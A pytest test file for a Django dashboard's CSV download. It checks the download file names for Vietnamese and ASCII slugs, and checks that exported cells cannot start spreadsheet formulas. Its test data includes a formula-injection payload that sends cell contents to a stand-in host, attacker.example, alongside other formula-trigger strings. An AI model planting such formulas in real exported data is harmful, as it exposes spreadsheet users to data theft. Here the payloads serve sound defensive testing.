"""The dashboard's CSV download: a usable file name, and no formula a spreadsheet would run."""

import csv
import io

import pytest

from tests.factories import (
    make_dashboard,
    make_indicator,
    make_report,
    make_report_index,
    statistic,
)

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Xem")',
    "+84 912 345 678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def dashboard_with(home, *indicators, **fields):
    index = make_report_index(home)
    make_report(index, body=[statistic(indicator, 10) for indicator in indicators])
    return make_dashboard(home, **fields)


def test_a_vietnamese_slug_gives_a_real_name_and_an_ascii_one(client, home):
    dashboard = dashboard_with(home, make_indicator(), title="Bảng số liệu", slug="bảng-số-liệu")

    response = client.get(dashboard.csv_url())

    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="bang-so-lieu.csv"; '
        "filename*=UTF-8''b%E1%BA%A3ng-s%E1%BB%91-li%E1%BB%87u.csv"
    )


def test_an_ascii_slug_is_the_name(client, home):
    dashboard = dashboard_with(home, make_indicator(), title="Thống kê", slug="thong-ke")

    response = client.get(dashboard.csv_url())

    assert response["Content-Disposition"] == 'attachment; filename="thong-ke.csv"'


def test_indicator_names_and_units_cannot_start_a_formula(client, home):
    indicators = [
        make_indicator(f"hostile-{number}", name=name, unit=name)
        for number, name in enumerate(HOSTILE_NAMES)
    ]
    dashboard = dashboard_with(home, *indicators, slug="thong-ke")

    body = client.get(dashboard.csv_url()).content.decode("utf-8-sig")

    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert sorted((row["indicator"], row["unit"]) for row in rows) == sorted(
        ("'" + name, "'" + name) for name in HOSTILE_NAMES
    )
    assert [row["value"] for row in rows] == ["10"] * len(HOSTILE_NAMES)
